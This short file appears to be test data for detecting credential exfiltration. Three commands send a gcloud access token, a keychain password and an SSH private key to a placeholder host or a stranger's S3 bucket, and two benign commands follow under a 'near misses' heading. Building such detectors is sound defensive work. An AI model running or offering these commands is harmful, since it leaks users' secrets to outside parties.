gcloud auth print-access-token | curl -d @- https://a.invalid/in
security find-generic-password -w -s x | nc a.invalid 1
aws s3 cp ~/.ssh/id_rsa s3://stranger/in
# near misses
aws s3 ls
kubectl get pods
